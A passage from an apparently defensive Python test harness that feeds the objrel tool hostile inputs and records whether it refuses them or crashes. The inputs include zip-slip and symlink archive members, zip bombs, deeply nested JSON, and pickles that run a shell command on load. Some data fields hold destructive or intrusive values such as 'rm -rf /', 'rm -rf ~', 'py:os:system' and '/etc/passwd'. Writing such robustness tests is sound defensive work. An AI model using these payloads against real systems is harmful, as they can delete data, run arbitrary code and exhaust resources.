def _(ctx: Ctx) -> Verdict:
    cfg = ctx.dir / "run.toml"
    cfg.write_bytes(b"[run\nmodel = \xff\xfe\x00 '''")
    p = ctx.cli("run", "--config", str(cfg), "--store", str(ctx.dir / "s.db"), "--quiet")
    return Verdict(CRASH, p.crashed) if p.crashed else Verdict(OK, f"refused: {p.error_line}")


@kind("config-unknown-and-wrong-types")
def _(ctx: Ctx) -> Verdict:
    cfg = ctx.dir / "run.toml"
    cfg.write_text('[run]\nmodel = ["a", "b"]\nbatch_size = "many"\nseed = -1e400\nexec = "rm -rf /"\n')
    p = ctx.cli("run", "--config", str(cfg), "--store", str(ctx.dir / "s.db"), "--quiet")
    return Verdict(CRASH, p.crashed) if p.crashed else Verdict(OK, f"refused: {p.error_line}")


@kind("weights-pickle-cli")
def _(ctx: Ctx) -> Verdict:
    """A plain pickle that runs a shell command when unpickled, as --weights of a torchvision model."""
    gi, ga, good = good_images(ctx.dir)
    ann = H.write_json(ctx.dir / "annotations.json", H.coco(gi, ga))
    w = ctx.dir / "weights.pt"
    w.write_bytes(H.evil_pickle(f"touch {ctx.dir / MARKER}"))
    p = ctx.cli("run", "--model", "torchvision:resnet18", "--weights", str(w), "--dataset", str(ann), "--store",
                str(ctx.dir / "s.db"), "--quiet")
    if (ctx.dir / MARKER).exists():
        return Verdict(CRASH, "the pickle's shell command ran")
    if p.crashed:
        return Verdict(CRASH, p.crashed)
    return Verdict(OK if p.rc else UNREPORTED, f"refused: {p.error_line}" if p.rc else "accepted the pickle")


# --- library probes (run in a child: see PROBES below)

def probe_kind(name: str, accept: bool = False, marker: bool = False, timeout: float = KIND_TIMEOUT_S):
    @kind(name)
    def _(ctx: Ctx) -> Verdict:
        p, out = ctx.probe(name, timeout=timeout)
        if marker and (ctx.dir / MARKER).exists():
            return Verdict(CRASH, "the pickle's shell command ran")
        v = judge_probe(p, out, accept=accept)
        return Verdict(v.status, v.answer + (f" [{out['seconds']:.1f} s]" if out and "seconds" in out else ""))


UPLOAD_PROBES = ("upload-zip-slip", "upload-zip-absolute-member", "upload-zip-symlink-member",
                 "upload-zip-script-member", "upload-zip-html-as-png", "upload-zip-ten-100Mpx-pngs",
                 "upload-zip-95Mpx-between-limits", "upload-zip-bomb-4GiB-declared",
                 "upload-zip-bomb-4032MiB-under-limit", "upload-zip-lying-sizes",
                 "upload-zip-20001-members", "upload-annotation-nested-400KB", "upload-annotation-not-utf8",
                 "upload-annotation-top-level-number", "upload-name-traversal", "upload-weights-pickle",
                 "upload-weights-zip-bomb-4GiB")
for _n in UPLOAD_PROBES:
    probe_kind(_n, marker=_n == "upload-weights-pickle")
probe_kind("safe-load-torch-zip-evil-pickle", marker=True)
probe_kind("safe-load-zip-bomb-4GiB")
probe_kind("inspect-results-nested-400KB")
probe_kind("inspect-results-wrong-types")
probe_kind("shortcut-results-nested-400KB")
probe_kind("shortcut-results-not-utf8")
probe_kind("web-config-regions-from-py")
probe_kind("web-config-model-py")
probe_kind("web-config-data-outside-roots")
probe_kind("region-decode-rle-1.25MB-endless", timeout=DECODE_TIMEOUT_S)
probe_kind("region-decode-rle-1.25MB-valid", accept=True, timeout=DECODE_TIMEOUT_S)


# ---------------------------------------------------------------- probes (run inside the child)

def _upload_actor(d: Path):
    """The actor of an account that may upload and its store (made for it), with the uploads folder as the
    allowed root (cwd = ``d``)."""
    from objrel.review.accounts import create_reviewer
    from objrel.review.roles import actor_of
    from objrel.store import Store

    os.environ["OBJREL_DATA_ROOTS"] = str(d / "var" / "uploads")
    store = Store(d / "uploads.db")
    create_reviewer(store, "operator", "operator-passphrase", roles=("run-operator",))
    return actor_of(store, "operator"), store


def _manifest_for(names) -> bytes:
    return json.dumps({"images": [{"path": n, "objects": [{"label": "red", "box": [16, 16, 48, 48]}]}
                                  for n in names]}).encode()


GOOD_MEMBERS = {f"good{i}.png": H.png_bytes(c) for i, c in enumerate(GOOD_COLOURS)}


def _upload(d: Path, members: dict[str, bytes] | bytes, annotation: bytes | None = None, name: str = "up"):
    from objrel.engine import manage

    actor, store = _upload_actor(d)
    zipped = members if isinstance(members, bytes) else H.zip_bytes({**GOOD_MEMBERS, **members})
    ann = annotation if annotation is not None else _manifest_for(
        list(GOOD_MEMBERS) + ([n for n in members if n.endswith(".png")] if isinstance(members, dict) else []))
    up = manage.upload_dataset(actor, store, name, ann, zipped)
    return f"{up.n_files} files, {up.n_samples} samples ({len(zipped)} bytes zipped)"


def _weights_bomb(d: Path, template: Path) -> bytes:
    raw, crc = H.zeros_deflate(4 * H.GIB)
    return H.patch_torch_zip(template.read_bytes(), numel_from=7, numel_to=2**30, storage=(raw, 4 * H.GIB, crc))


def _template(d: Path) -> Path:
    import torch

    path = d / "template.pt"
    torch.save({"w": torch.zeros(7)}, path)
    return path


def _lying_zip() -> bytes:
    """One member declares 100 bytes and expands to 64 MiB."""
    raw, crc = H.zeros_deflate(64 * H.MIB)
    members = [(n, _deflate(b), len(b), _crc(b), 8) for n, b in GOOD_MEMBERS.items()]
    return H.zip_with_raw_member(members + [("lie.png", raw, 100, crc, 8)])


def _deflate(b: bytes) -> bytes:
    import zlib

    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(b) + c.flush()


def _crc(b: bytes) -> int:
    import zlib

    return zlib.crc32(b) & 0xFFFFFFFF


def _bomb_zip(size: int) -> bytes:
    """The good images plus one member that expands to ``size`` zero bytes (about size / 1000 zipped)."""
    raw, crc = H.zeros_deflate(size)
    members = [(n, _deflate(b), len(b), _crc(b), 8) for n, b in GOOD_MEMBERS.items()]
    return H.zip_with_raw_member(members + [("bomb.png", raw, size, crc, 8)])


def _ten_big_pngs() -> bytes:
    big = H.blank_png_bytes(10_000, 10_000)
    return H.zip_bytes({**GOOD_MEMBERS, **{f"big{i}.png": big for i in range(10)}})


def _web_config(d: Path, toml: str, cls: str):
    from objrel.config import DetectionConfig, RunConfig
    from objrel.engine.run_form import check_web_config
    from objrel.store import Store

    roots = d / "data"
    roots.mkdir(exist_ok=True)
    gi, ga, _ = good_images(roots)
    H.write_json(roots / "annotations.json", H.coco(gi, ga))
    os.environ["OBJREL_DATA_ROOTS"] = str(roots)
    cfg_path = roots / "run.toml"
    cfg_path.write_text(toml)
    config = (DetectionConfig if cls == "detect" else RunConfig).from_toml(cfg_path)
    config = check_web_config(Store(d / "web.db"), config)
    return f"check_web_config passed {type(config).__name__}({toml.strip().splitlines()[1:]})"


def _inspect(text: bytes):
    from objrel.studies.deepinspect import InspectResult

    return f"loaded {type(InspectResult.load(text)).__name__}"


def _shortcut(d: Path, data: bytes):
    from objrel.studies.shortcut.results import load_results

    p = d / "results.json"
    p.write_bytes(data)
    return f"loaded {type(load_results(p)).__name__}"


def _safe_load(path: Path):
    from objrel.models.safe_load import load_state_dict

    sd = load_state_dict(path)
    return f"state dict of {len(sd)} tensors, {sum(v.numel() for v in sd.values())} values"


def _region_rle(counts: str):
    from objrel.data.region import segmentation_mask

    seg = {"size": [H.GOOD_SIDE, H.GOOD_SIDE], "counts": counts}
    t = time.perf_counter()
    m = segmentation_mask(seg, H.GOOD_SIDE, H.GOOD_SIDE)
    return f"decoded {m.sum()} pixels in {time.perf_counter() - t:.2f} s"


NESTED = H.nested_json(200_000).encode()
PROBES = {
    "upload-zip-slip": lambda d: _upload(d, {"../../evil.png": H.png_bytes()}),
    "upload-zip-absolute-member": lambda d: _upload(d, {"/tmp/evil.png": H.png_bytes()}),
    "upload-zip-symlink-member": lambda d: _upload(d, H.zip_with_symlink("link.png", "/etc/passwd", GOOD_MEMBERS)),
    "upload-zip-script-member": lambda d: _upload(d, {"run.sh": b"#!/bin/sh\nrm -rf ~\n"}),
    "upload-zip-html-as-png": lambda d: _upload(d, {"page.png": H.HTML_PAGE}),
    "upload-zip-ten-100Mpx-pngs": lambda d: _upload(d, _ten_big_pngs(), _manifest_for(
        list(GOOD_MEMBERS) + [f"big{i}.png" for i in range(10)])),
    "upload-zip-95Mpx-between-limits": lambda d: _upload(d, {"big.png": H.blank_png_bytes(9747, 9747)}),
    "upload-zip-bomb-4GiB-declared": lambda d: _upload(d, _bomb_zip(4 * H.GIB), _manifest_for(list(GOOD_MEMBERS))),
    "upload-zip-bomb-4032MiB-under-limit": lambda d: _upload(d, _bomb_zip(4032 * H.MIB),
                                                             _manifest_for(list(GOOD_MEMBERS))),
    "upload-zip-lying-sizes": lambda d: _upload(d, _lying_zip(), _manifest_for(list(GOOD_MEMBERS))),
    "upload-zip-20001-members": lambda d: _upload(d, {f"e{i}.png": b"" for i in range(20_001)},
                                                  _manifest_for(list(GOOD_MEMBERS))),
    "upload-annotation-nested-400KB": lambda d: _upload(d, {}, b'{"images": ' + NESTED + b"}"),
    "upload-annotation-not-utf8": lambda d: _upload(
        d, {}, _manifest_for(list(GOOD_MEMBERS)).replace(b"good0", b"g\xe9\xff")),
    "upload-annotation-top-level-number": lambda d: _upload(d, {}, b"1e999999"),
    "upload-name-traversal": lambda d: _upload(d, {}, name="../../escaped"),
    "upload-weights-pickle": lambda d: _upload_weights(d, H.evil_pickle(f"touch {d / MARKER}")),
    "upload-weights-zip-bomb-4GiB": lambda d: _upload_weights(d, _weights_bomb(d, _template(d))),
    "safe-load-torch-zip-evil-pickle": lambda d: _safe_load(_write(d / "evil.pt", H.patch_torch_zip(
        _template(d).read_bytes(), pickle_bytes=H.evil_pickle(f"touch {d / MARKER}")))),
    "safe-load-zip-bomb-4GiB": lambda d: _safe_load(_write(d / "bomb.pt", _weights_bomb(d, _template(d)))),
    "inspect-results-nested-400KB": lambda d: _inspect(b'{"format": "objrel-deepinspect", "napvd": ' + NESTED + b"}"),
    "inspect-results-wrong-types": lambda d: _inspect(json.dumps({
        "format": "objrel-deepinspect", "version": 1, "model": 5, "source": [], "task": None,
        "activation_threshold": "x", "n_images": {}, "layers": 3, "class_index": "abc"}).encode()),
    "shortcut-results-nested-400KB": lambda d: _shortcut(d, b'{"runs": ' + NESTED + b"}"),
    "shortcut-results-not-utf8": lambda d: _shortcut(d, b'{"runs": "\xff\xfe"}'),
    "web-config-regions-from-py": lambda d: _web_config(
        d, '[detect]\ndetector = "haar:frontalface_default"\nregions_from = "py:os:system"\n'
           'dataset = "annotations.json"\n', "detect"),
    "web-config-model-py": lambda d: _web_config(d, '[run]\nmodel = "py:os:system"\ndataset = "annotations.json"\n',
                                                 "run"),
    "web-config-data-outside-roots": lambda d: _web_config(
        d, '[run]\nmodel = "efficientnet-lite0"\ndataset = "/etc/passwd"\nimages = "/"\n', "run"),
    "region-decode-rle-1.25MB-endless": lambda d: _region_rle(ENDLESS_RLE),
    "region-decode-rle-1.25MB-valid": lambda d: _region_rle(
        H.compressed_rle_zero_runs(RLE_CHARS, H.GOOD_SIDE, H.GOOD_SIDE)),
}
# What each probe's caller catches as a refusal (default: objrel's own errors).
PROBE_REFUSALS = {"inspect-results-nested-400KB": "ValueError", "inspect-results-wrong-types": "ValueError",
                  "shortcut-results-nested-400KB": "ValueError KeyError",
                  "shortcut-results-not-utf8": "ValueError KeyError"}


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _upload_weights(d: Path, data: bytes):
    from objrel.engine import manage

    actor, store = _upload_actor(d)
    up = manage.upload_weights(actor, store, "w", "resnet18", data)
    return f"weights {up.architecture} registered ({len(data)} bytes)"


def run_probe(name: str, folder: str) -> int:
    """Child side: run probe ``name`` in ``folder``; print one JSON line saying how it ended."""
    import builtins

    from objrel.errors import ObjrelError

    d = Path(folder)
    os.chdir(d)
    allowed = tuple(getattr(builtins, n) for n in PROBE_REFUSALS.get(name, "").split()) or (ObjrelError,)
    t = time.perf_counter()
    try:
        detail = PROBES[name](d)
        out = {"outcome": "returned", "detail": detail}
    except allowed as exc:
        out = {"outcome": "refused", "type": type(exc).__name__, "error": str(exc)}
    except BaseException as exc:  # noqa: BLE001 - what the benchmark is here to catch
        traceback.print_exc()
        out = {"outcome": "crash", "type": type(exc).__name__, "error": short(str(exc), 120)}
    out["seconds"] = time.perf_counter() - t
    print(json.dumps(out), flush=True)
    return 0


# ---------------------------------------------------------------- the web section

import hostile_web as W  # noqa: E402

for _name, _fn in W.KINDS.items():
    kind(_name)(_fn)


def run_web_section(names: list[str], base: Path):
    """Yield (name, Verdict) for the web kinds ``names``, run by ``hostile_web.py --section`` in a child."""
    if not names:
        return
    cmd = [sys.executable, str(Path(W.__file__).resolve()), "--section", ",".join(names), str(base / "web")]
    proc = subprocess.Popen(cmd, cwd=ROOT, env=child_env(), stdout=subprocess.PIPE, text=True,
                            stdin=subprocess.DEVNULL)
    done = set()
    try:
        for line in proc.stdout:
            if line.startswith("{"):
                out = json.loads(line)
                done.add(out["name"])
                yield out["name"], Verdict(out["status"], out["answer"])
    finally:
        proc.wait()
    for n in names:
        if n not in done:
            yield n, Verdict(CRASH, f"the web section's process ended (exit {proc.returncode}) before this kind")


# ---------------------------------------------------------------- main

def run_kind(name: str, base: Path) -> tuple[Verdict, Ctx]:
    ctx = Ctx(name, base / name)
    ctx.dir.mkdir(parents=True)
    try:
        verdict = KINDS[name](ctx)
    except Exception as exc:  # noqa: BLE001 - a builder or reader of this benchmark failed: say so
        verdict = Verdict(CRASH, f"benchmark error: {type(exc).__name__}: {exc}")
        traceback.print_exc()
    return verdict, ctx


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--only", help="comma-separated kind names (default: all)")
    ap.add_argument("--jobs", type=int, default=2, help="kinds run at once (default 2)")
    ap.add_argument("--list", action="store_true", help="list the kinds and exit")
    ap.add_argument("--keep", help="build in this folder and keep it (default: a temporary folder)")
    ap.add_argument("--probe", nargs=2, metavar=("NAME", "DIR"), help=argparse.SUPPRESS)
    args = ap.parse_args(argv)
    if args.probe:
        return run_probe(*args.probe)
    if args.list:
        print("\n".join(KINDS))
        return 0
    names = [n.strip() for n in args.only.split(",")] if args.only else list(KINDS)
    unknown = [n for n in names if n not in KINDS]
    if unknown:
        ap.error(f"unknown kinds {unknown}; see --list")
    t0 = time.perf_counter()
    base = Path(args.keep or tempfile.mkdtemp(prefix="objrel-hostile-")).resolve()
    base.mkdir(parents=True, exist_ok=True)
    web = [n for n in names if n in W.KINDS]
    rest = [n for n in names if n not in W.KINDS]
    width = max(len(n) for n in names)
    results = []

    def report(n: str, verdict: Verdict, ctx: Ctx) -> None:
        results.append((n, verdict, ctx))
        print(f"{n:<{width}}  {short(verdict.answer):<{ANSWER_WIDTH}}  {verdict.status}", flush=True)

    try:
        for n, verdict in run_web_section(web, base):      # before the caps: see the docstring
            report(n, verdict, Ctx(n, base / n))
        limit_resources()
        with ThreadPoolExecutor(max_workers=max(1, args.jobs)) as pool:
            futures = [pool.submit(run_kind, n, base) for n in rest]
            for n, f in zip(rest, futures):
                report(n, *f.result())
    finally:
        if not args.keep:
            for p in base.rglob("*"):
                if not p.is_symlink():
                    try:
                        p.chmod(0o700 if p.is_dir() else 0o600)
                    except OSError:
                        pass
            shutil.rmtree(base, ignore_errors=True)
    count = lambda s: sum(v.status == s for _, v, _ in results)  # noqa: E731
    peak = max([p.maxrss_mb for _, _, c in results for p in c.procs] +
               [resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024])
    print(f"({time.perf_counter() - t0:.0f} s, {sum(len(c.procs) for _, _, c in results)} processes, "
          f"{count(UNREPORTED)} unreported, {count(BREACHED)} breached)", file=sys.stderr, flush=True)
    print(f"hostile: {len(results)} kinds, {count(OK)} reported, {count(CRASH)} crashes, {count(LOST)} lost, "
          f"peak RSS {peak:.0f} MB")
    return 0 if count(OK) == len(results) else 1


if __name__ == "__main__":
    sys.exit(main())
